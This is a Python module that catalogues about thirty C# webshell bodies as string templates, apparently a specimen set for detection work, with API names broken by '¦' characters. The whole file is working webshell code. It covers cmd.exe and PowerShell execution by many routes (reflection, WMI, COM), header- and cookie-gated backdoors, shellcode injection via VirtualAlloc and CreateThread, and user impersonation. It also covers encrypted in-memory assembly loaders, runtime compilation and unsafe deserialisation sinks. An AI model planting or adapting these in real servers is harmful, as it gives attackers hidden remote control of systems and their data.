"""What shells in C# do: programs, loaders, files, tunnels and the rest, as inert statements."""

from webshells.pieces import body

_PROCESS = ("System.Diagnostics", "System.IO")
_LOAD = ("System.Refle¦ction", "System.Text", "System.Security.Cryptography")


PROGRAMS = (
    body(
        "C#",
        "runs-program",
        "start-info",
        """Proc¦essStartInfo info = new Proc¦essStartInfo();
info.FileName = "cm¦d.exe";
info.Arguments = "/c " + $(note);
info.RedirectStandardOutput = true;
info.UseShellExecute = false;
Proc¦ess worker = Proc¦ess.St¦art(info);
StreamReader reader = worker.StandardOutput;
Response.Write("<pre>" + Server.HtmlEncode(reader.ReadToEnd()) + "</pre>");""",
        *_PROCESS,
    ),
    body(
        "C#",
        "runs-program",
        "short",
        'System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " + $(note));',
    ),
    body(
        "C#",
        "runs-program",
        "instance",
        """Proc¦ess worker = new Proc¦ess();
worker.StartInfo.FileName = $(tool);
worker.StartInfo.Arguments = $(note);
worker.StartInfo.UseShellExecute = false;
worker.StartInfo.RedirectStandardOutput = true;
worker.St¦art();
Response.Write(worker.StandardOutput.ReadToEnd());""",
        *_PROCESS,
    ),
    body(
        "C#",
        "runs-program",
        "standard-input",
        """string order = $(note);
var info = new Proc¦essStartInfo("cm¦d") { UseShellExecute = false, RedirectStandardInput = true,
  RedirectStandardOutput = true, CreateNoWindow = true };
using (var worker = Proc¦ess.St¦art(info)) {
  worker.StandardInput.WriteLine(order);
  worker.StandardInput.WriteLine("exit");
  Response.Write(worker.StandardOutput.ReadToEnd());
}""",
        *_PROCESS,
    ),
    body(
        "C#",
        "runs-program",
        "gate-header",
        """if (Request.Headers["X-Trace-Part"] == "inert-7d1c") {
  string order = $(note);
  Proc¦ess worker = new Proc¦ess { StartInfo = new Proc¦essStartInfo("power¦shell.exe", order) };
  worker.StartInfo.UseShellExecute = false;
  worker.StartInfo.RedirectStandardOutput = true;
  worker.St¦art();
  Response.Write(worker.StandardOutput.ReadToEnd());
} else { Response.StatusCode = 404; }""",
        *_PROCESS,
    ),
    body(
        "C#",
        "runs-program",
        "gate-cookie",
        """HttpCookie pass = Request.Cookies["lang"];
if (pass != null && pass.Value == "inert") {
  Response.Write(Run($(note)));
}""",
        *_PROCESS,
        members="""string Run(string order) {
  var info = new Proc¦essStartInfo("cm¦d.exe", "/c " + order);
  info.UseShellExecute = false; info.RedirectStandardOutput = true;
  return Proc¦ess.St¦art(info).StandardOutput.ReadToEnd();
}""",
    ),
    body(
        "C#",
        "runs-program",
        "reflection",
        """Type kind = Type.GetType("System.Diagnostics.Proc¦ess, System, Version=4.0.0.0, "
  + "Culture=neutral, PublicKeyToken=b77a5c561934e089");
object answer = kind.InvokeMem¦ber("St¦art", System.Reflection.BindingFlags.InvokeMethod, null,
  null,  new object[] { "cm¦d.exe", "/c " + $(note) });
Response.Write(answer);""",
    ),
    body(
        "C#",
        "runs-program",
        "get-method",
        """var kind = typeof(System.Uri).Assembly.GetType("System.Diagnostics.Proc¦ess");
var start = kind.GetMethod("St¦art", new[] { typeof(string), typeof(string) });
start.Invoke(null, new object[] { "cm¦d.exe", $(note) });""",
    ),
    body(
        "C#",
        "runs-program",
        "alias",
        """var row = new Row("cm¦d.exe", "/c " + $(note));
row.UseShellExecute = false;
row.RedirectStandardOutput = true;
Response.Write(Table.St¦art(row).StandardOutput.ReadToEnd());""",
        "Table = System.Diagnostics.Proc¦ess",
        "Row = System.Diagnostics.Proc¦essStartInfo",
        markup="",
    ),
    body(
        "C#",
        "runs-program",
        "text-box",
        'Result.Text = Run("/c " + Order.Text);',
        *_PROCESS,
        members="""private string Run(string words) {
  Proc¦essStartInfo info = new Proc¦essStartInfo("cm¦d.exe", words);
  info.RedirectStandardOutput = true; info.UseShellExecute = false;
  return Proc¦ess.St¦art(info).StandardOutput.ReadToEnd();
}""",
        markup='<asp:TextBox id="Order" runat="server" /><asp:Button id="Go" runat="server" '
        'OnClick="Go_Click" Text="Go" /><asp:Literal id="Result" runat="server" />',
    ),
    body(
        "C#",
        "runs-program",
        "wmi",
        """var maker = new ManagementClass(@"\\\\.\\root\\cimv2:Win32_Proc¦ess");
var words = maker.GetMethodParameters("Create");
words["CommandLine"] = $(note);
maker.InvokeMethod("Create", words, null);""",
        "System.Management",
    ),
    body(
        "C#",
        "runs-program",
        "com-object",
        """Type kind = Type.GetTypeFromProgID("WScr¦ipt.Sh¦ell");
dynamic box = Activator.CreateInstance(kind);
Response.Write(box.Ex¦ec("cm¦d /c " + $(note)).StdOut.ReadAll());""",
    ),
    body(
        "C#",
        "native-code",
        "create-process",
        """var start = new StartupInfo(); var made = new ProcessInformation();
CreateProc¦ess(null, $(note), IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null,
  ref start, out made);""",
        "System.Runtime.InteropServices",
        members="""[DllImport("kernel32.dll", SetLastError = true)]
static extern bool CreateProc¦ess(string name, string line, IntPtr a, IntPtr b, bool c, uint d,
  IntPtr e, string f, ref StartupInfo g, out ProcessInformation h);""",
    ),
    body(
        "C#",
        "native-code",
        "virtual-alloc",
        """byte[] part = Convert.FromBase64String($(part));
IntPtr room = VirtualAl¦loc(IntPtr.Zero, (UIntPtr)part.Length, 0x1000, 0x40);
Marshal.Copy(part, 0, room, part.Length);
IntPtr id = IntPtr.Zero;
CreateThr¦ead(IntPtr.Zero, UIntPtr.Zero, room, IntPtr.Zero, 0, ref id);""",
        "System.Runtime.InteropServices",
        members="""[DllImport("kernel32")]
static extern IntPtr VirtualAl¦loc(IntPtr a, UIntPtr b, int c, int d);
[DllImport("kernel32")]
static extern IntPtr CreateThr¦ead(IntPtr a, UIntPtr b, IntPtr c, IntPtr d, int e,
  ref IntPtr f);""",
    ),
    body(
        "C#",
        "impersonation",
        "logon-user",
        """IntPtr token = IntPtr.Zero;
if (LogonUs¦er($(user), $(domain), $(word), 9, 0, ref token)) {
  using (var other = WindowsIdentity.Impersonate(token)) {
    System.Diagnostics.Proc¦ess.St¦art($(tool), $(note));
  }
}""",
        "System.Runtime.InteropServices",
        "System.Security.Principal",
        members="""[DllImport("advapi32.dll", SetLastError = true)]
public static extern bool LogonUs¦er(string a, string b, string c, int d, int e, ref IntPtr f);""",
    ),
)

LOADERS = (
    body(
        "C#",
        "loads-assembly",
        "session-key",
        """string key = "0000inert0000key"; string pass = "inert";
byte[] data = Convert.FromBase64String($(inert));
data = new RijndaelMan¦aged().CreateDecryptor(Encoding.Default.GetBytes(key),
  Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length);
if (Context.Session["payl¦oad"] == null) {
  Context.Session["payl¦oad"] = (Assembly)typeof(Assembly).GetMethod("Lo¦ad",
    new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
} else {
  object part = ((Assembly)Context.Session["payl¦oad"]).CreateInstance("Specimen");
  part.Equals(Context); part.Equals(data); part.ToString();
}""",
        *_LOAD,
    ),
    body(
        "C#",
        "loads-assembly",
        "binary-read",
        """byte[] key = Encoding.Default.GetBytes(Session["k"] + "");
byte[] sent = Request.BinaryRead(Request.ContentLength);
Assembly.Lo¦ad(new System.Security.Cryptography.RijndaelMan¦aged().CreateDecryptor(key, key)
  .TransformFinalBlock(sent, 0, sent.Length)).CreateInstance("Specimen").Equals(this);""",
        *_LOAD,
    ),
    body(
        "C#",
        "loads-assembly",
        "base64",
        """Assembly part = Assembly.Lo¦ad(Convert.FromBase64String($(part)));
part.GetType("Specimen").GetMethod("Show").Invoke(null, new object[] { $(note) });""",
        *_LOAD,
    ),
    body(
        "C#",
        "loads-assembly",
        "app-domain",
        """byte[] data = Convert.FromBase64String($(part));
for (int i = 0; i < data.Length; i++) { data[i] = (byte)(data[i] ^ 7); }
object one = AppDomain.CurrentDomain.Lo¦ad(data).CreateInstance("Specimen");
one.Equals(Context);""",
        *_LOAD,
    ),
    body(
        "C#",
        "loads-assembly",
        "load-file",
        """string place = Server.MapPath("~/" + $(name));
Assembly part = Assembly.LoadFr¦om(place);
Activator.CreateInstance(part.GetType($(kind))).ToString();""",
        *_LOAD,
    ),
    body(
        "C#",
        "loads-assembly",
        "stream",
        """var store = new MemoryStream();
Request.InputStream.CopyTo(store);
var kind = Assembly.Lo¦ad(store.ToArray()).GetTypes()[0];
Activator.CreateInstance(kind);""",
        "System.IO",
        *_LOAD,
    ),
    body(
        "C#",
        "compiles-code",
        "code-dom",
        """var maker = new Microsoft.CSharp.CSharpCodeProv¦ider();
var words = new System.CodeDom.Compiler.CompilerParameters();
words.GenerateInMemory = true;
var built = maker.CompileAssemblyFrom¦Source(words, $(source));
object made = built.CompiledAssembly.CreateInstance("Specimen");
made.GetType().GetMethod("Show").Invoke(made, null);""",
    ),
    body(
        "C#",
        "compiles-code",
        "provider-by-name",
        """CodeDomProvider maker = CodeDomProvider.CreateProvider($(language));
CompilerResults built = maker.CompileAssemblyFrom¦Source(new CompilerParameters(),
  new string[] { $(source) });
built.CompiledAssembly.GetType("Specimen").GetMethod("Show").Invoke(null, null);""",
        "System.CodeDom.Compiler",
    ),
    body(
        "C#",
        "runs-powershell",
        "runspace",
        """Runspace space = RunspaceFact¦ory.CreateRunspace();
space.Open();
Pipeline line = space.CreatePipeline();
line.Commands.AddScr¦ipt($(note));
line.Commands.Add("Out-String");
foreach (PSObject row in line.Invoke()) { Response.Write(row.ToString()); }""",
        "System.Management.Automation",
        "System.Management.Automation.Runspaces",
    ),
    body(
        "C#",
        "runs-powershell",
        "create",
        """using (var shell = System.Management.Automation.PowerSh¦ell.Create()) {
  foreach (var row in shell.AddScr¦ipt($(note)).Invoke()) { Response.Write(row); }
}""",
    ),
    body(
        "C#",
        "deserialises",
        "binary-formatter",
        """var store = new MemoryStream(Convert.FromBase64String($(part)));
new System.Runtime.Serialization.Formatters.Binary.BinaryForm¦atter().Deserial¦ize(store);""",
        "System.IO",
    ),
    body("C#", "deserialises", "los", "new System.Web.UI.LosForm¦atter().Deserial¦ize($(part));"),
    body(
        "C#",
        "deserialises",
        "object-state",
        "new System.Web.UI.ObjectStateForm¦atter().Deserial¦ize($(part));",
    ),
    body(
        "C#",
        "deserialises",
        "net-data-contract",
        "new NetDataContractSerial¦izer().Deserial¦ize(Request.InputStream);",
        "System.Runtime.Serialization",
    ),
    body(
        "C#",
        "transforms-xslt",
        "script",
        """var sheet = new XslCompiledTransf¦orm();
sheet.Load(XmlReader.Create(new StringReader($(sheet))), new XsltSettings(true, true),
  new XmlUrlResolver());
sheet.Transform(XmlReader.Create(new StringReader("<a/>")), null, Response.Output);""",
        "System.IO",
        "System.Xml",
        "System.Xml.Xsl",
    ),
)

SHELLS = PROGRAMS + LOADERS
